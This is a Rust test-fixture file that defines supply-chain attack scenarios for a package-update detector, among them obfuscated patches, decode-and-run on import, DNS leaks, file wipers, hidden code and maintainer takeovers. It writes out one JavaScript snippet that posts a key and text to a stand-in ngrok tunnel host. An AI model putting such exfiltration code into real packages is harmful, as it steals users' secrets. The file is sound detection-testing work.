//! R11, R12, R13, R25, and incidents that only code gives away: patches that run on import. The
//! metadata around them is that of somebody else's machine, or nothing at all.

use jiff::Timestamp;
use serde_json::json;

use super::deviations::{elsewhere, expected, package, release};
use super::parts::{NEXT, Stage, VERSIONS};
use super::{Attack, Scenario, days_before, history, minutes_before};
use crate::Release;
use crate::payloads::{
    DECODE_AND_RUN, DNS_LEAK, ENDLESS, ENDLESS_FLAG, KEY_IN_HEADER, MAIL, MAIL_WITH_COPY,
    PARENT_ONLY, PLACE_AND_WIPE, READABLE, SCRIPT_LOADER, SOCKET_TO_CODE, invisible, off_screen,
    unreadable,
};
use crate::samples::FORMATTER;

/// R11: a readable file becomes an unreadable one that waits for a browser with a wallet.
///
/// Twin: a vendor whose build was always unreadable.
pub fn obfuscated_patch(now: Timestamp) -> Scenario {
    let mut stage = Stage::new(now);
    let readable = |version: &str| release(version).file("index.js", READABLE);
    let package = stage.updated("tint-strings", "qix", readable, 13, |next| {
        elsewhere(next.file("index.js", unreadable()))
    });
    stage.registry.add(package);
    stage.bad_update(
        "tint-strings",
        &["I16", "I27"],
        vec![expected(
            "B10",
            "code",
            "unreadable code where all was readable",
        )],
    );
    let always = |version: &str| {
        let text = unreadable().replace("weir-inert", version);
        release(version).file("index.js", text)
    };
    stage.honest(
        "vault-player",
        "a vendor's build that was always unreadable",
        always,
        |next| next,
    );
    stage.end(
        "R11-obfuscated-patch",
        "One readable file of a package becomes unreadable in a patch.",
    )
}

/// R12: three lines at the top of the entry file decode a command and run it.
pub fn prepended(now: Timestamp) -> Scenario {
    let mut stage = Stage::new(now);
    stage.hijacked(
        "dex-client",
        &["I39"],
        vec![expected(
            "B8",
            "code",
            "a decoded command on import, where there was no process",
        )],
        8,
        |next| next.file("index.js", format!("{DECODE_AND_RUN}{FORMATTER}")),
    );
    stage.end(
        "R12-prepended",
        "Three lines before the code of a library decode a command and run it.",
    )
}

/// R13: one constant changes: the host that usage is sent to.
///
/// Twin: the documented host gets another path.
pub fn other_host(now: Timestamp) -> Scenario {
    let mut stage = Stage::new(now);
    let sends = |host: &str| {
        format!(
            "'use strict';\n\nconst https = require('https');\n\nexports.sign = function sign(key, text) {{\n  const \
             request = https.request('{host}', {{ method: 'POST' }});\n  request.on('error', () => {{}});\n  \
             request.end(JSON.stringify({{ key, text }}));\n}};\n"
        )
    };
    let usual = |version: &str| {
        release(version).file("index.js", sends("https://api.ledger-sign.example/v1"))
    };
    let package = stage.updated("ledger-sign", "mara", usual, 10, |next| {
        elsewhere(next.file(
            "index.js",
            sends("https://4f2a-81-2-69-142.ngrok-free.invalid/v1"),
        ))
    });
    stage.registry.add(package);
    stage.bad_update(
        "ledger-sign",
        &["I17", "I20"],
        vec![expected("B4", "code", "another host than ever before")],
    );
    let package = stage.updated("ledger-report", "ines", usual, 15, |next| {
        next.file("index.js", sends("https://api.ledger-sign.example/v2"))
    });
    stage.registry.add(package);
    stage.twin(
        "ledger-report",
        NEXT,
        "the documented host gets another path",
    );
    stage.end(
        "R13-other-host",
        "The host in a constant becomes a tunnel's.",
    )
}

/// R25: code behind hundreds of spaces, and code in characters that cannot be seen.
pub fn hidden_text(now: Timestamp) -> Scenario {
    let mut stage = Stage::new(now);
    let hidden = || vec![expected("B11", "code", "code that nobody sees")];
    stage.hijacked("random-agent", &["I21", "I22"], hidden(), 19, |next| {
        next.file("index.js", off_screen())
    });
    stage.hijacked("phone-input", &["I36"], hidden(), 17, |next| {
        next.file("index.js", invisible())
    });
    stage.end(
        "R25-hidden-text",
        "Code beyond the edge of the screen, and in characters that have no shape.",
    )
}

/// Patches of libraries that act on import, by incident.
pub fn on_import(now: Timestamp) -> Scenario {
    let mut stage = Stage::new(now);
    let code = |seen| vec![expected("B4", "code", seen)];
    let with = |text: &'static str| move |next: Release| next.file("index.js", text);
    stage.hijacked(
        "coin-keys",
        &["I17", "I20"],
        code("key material in a header to a host that was never there"),
        22,
        with(KEY_IN_HEADER),
    );
    stage.hijacked(
        "is-kind",
        &["I24"],
        code("messages of a socket become code"),
        31,
        |next| {
            next.file("index.js", SOCKET_TO_CODE)
                .dependency("ws", "^8.0.0")
        },
    );
    // Its own author, from the usual machine.
    let package = stage.updated("peace-ipc", "brandon", release, 27, |next| {
        let entry = format!("require('./dao/ssl-geospec');\n{FORMATTER}");
        next.file("index.js", entry)
            .file("dao/ssl-geospec.js", PLACE_AND_WIPE)
    });
    stage.registry.add(package);
    stage.bad_update(
        "peace-ipc",
        &["I11"],
        code("place decides, then files are overwritten"),
    );
    stage.end(
        "on-import",
        "Libraries whose patches act when they are imported.",
    )
}

/// I05, I14, I34, I44: code that acts on import, published by somebody who came lately or had long left.
pub fn other_hands_on_import(now: Timestamp) -> Scenario {
    let mut stage = Stage::new(now);
    let added = days_before(now, 9).to_string();
    let at = minutes_before(now, 24);
    let by = |publisher: &str, next: Release| next.publisher(publisher).published_at(at);
    for (name, next) in [
        (
            "template-web",
            release(NEXT)
                .file("lib/template-web.js", format!("{FORMATTER}{SCRIPT_LOADER}"))
                .field("browser", json!("lib/template-web.js")),
        ),
        (
            "load-from-here",
            release(NEXT).file("index.js", PARENT_ONLY),
        ),
    ] {
        let package = package(name, "old-owner")
            .maintainer_since("new-owner", &added)
            .releases(history(now, &VERSIONS, (2000, 1100), release))
            .release(by("new-owner", next));
        stage.registry.add(package);
    }
    for (name, text) in [
        ("message-bus", format!("{FORMATTER}\n{DNS_LEAK}")),
        ("wallet-connector", unreadable()),
    ] {
        let rhea = |version: &str| release(version).publisher("rhea");
        let package = package(name, "rhea")
            .maintainer("idle-friend")
            .releases(history(now, &VERSIONS, (900, 20), rhea))
            .release(by(
                "idle-friend",
                elsewhere(release(NEXT).file("index.js", text)),
            ));
        stage.registry.add(package);
    }
    for (name, incidents, who, seen) in [
        (
            "template-web",
            &["I34"][..],
            "a new owner",
            "loads a script from elsewhere",
        ),
        (
            "load-from-here",
            &["I05"][..],
            "a new owner",
            "acts for one parent only",
        ),
        (
            "message-bus",
            &["I44"][..],
            "a co-maintainer idle for years",
            "files leave in name lookups",
        ),
        (
            "wallet-connector",
            &["I14"][..],
            "a co-maintainer idle for years",
            "an unreadable bundle",
        ),
    ] {
        let wanted = vec![
            expected("M4", "identity", who),
            expected("B4", "code", seen),
        ];
        stage.bad_update(name, incidents, wanted);
    }
    stage.end(
        "other-hands-on-import",
        "Somebody new, or somebody long gone, publishes a patch that acts when it is imported.",
    )
}

/// I10 and I29: an author who breaks the own library, and one who copies every mail. Nothing short of
/// knowing why tells them from any other release.
pub fn own_author(now: Timestamp) -> Scenario {
    let mut stage = Stage::new(now);
    let client = package("postmark-client", "ben");
    let versions = history(now, &["4.0.0", "4.1.0"], (800, 40), release);
    stage.registry.add(client.releases(versions));
    let colours = |version: &str| release(version).file("index.js", READABLE);
    let package = stage.updated("tint-console", "mara", colours, 20, |next| {
        next.file("index.js", ENDLESS)
            .file("lib/flag.js", ENDLESS_FLAG)
    });
    stage.registry.add(package);
    let mails = |version: &str| {
        release(version)
            .file("index.js", MAIL)
            .dependency("postmark-client", "^4.0.0")
    };
    let package = stage.updated("mail-tool-server", "ben", mails, 25, |next| {
        next.file("index.js", MAIL_WITH_COPY)
    });
    stage.registry.add(package);
    let inseparable = |name, incidents, seen| Attack {
        name,
        version: NEXT,
        good: Some("1.4.0"),
        incidents,
        parts_of: &[],
        separable: false,
        expected: vec![expected("M10", "shape", seen)],
    };
    stage.attacks.push(inseparable(
        "tint-console",
        &["I10"],
        "an endless loop, no reach",
    ));
    stage.attacks.push(inseparable(
        "mail-tool-server",
        &["I29"],
        "one more recipient in a constant",
    ));
    stage.end(
        "own-author",
        "Authors turn on those who use their packages, with ordinary code.",
    )
}
